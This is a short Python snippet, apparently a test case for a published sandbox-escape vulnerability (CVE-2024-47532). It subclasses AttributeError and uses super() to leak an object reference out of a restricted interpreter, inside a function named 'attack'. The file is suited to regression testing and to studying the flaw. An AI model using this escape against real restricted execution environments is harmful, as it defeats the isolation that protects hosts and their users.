# The same by `super`, in an error of the source's own.
# after: interpreter
# source: CVE-2024-47532 (GHSA-5rfv-66g4-jr8h)
class Own(AttributeError):
    def take(self):
        return super().obj
def attack(**_):
    return {"proof": str(Own(name="x", obj=attack).take())}
